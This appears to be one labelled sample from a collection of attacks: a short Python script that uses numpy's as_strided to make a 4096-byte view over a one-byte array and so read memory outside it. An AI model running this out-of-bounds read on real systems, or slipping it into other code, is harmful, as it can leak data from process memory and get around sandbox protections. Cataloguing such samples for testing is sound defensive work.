# attack: strides beyond an array's end read the memory behind it
# family: numpy
import numpy
def tricks(module):
    return module.lib.stride_tricks.as_strided
beyond = tricks(numpy)(numpy.zeros(1, dtype="u1"), shape=(4096,), strides=(1,))
print("REACHED", int(beyond.sum()), "in memory that is not the array's")
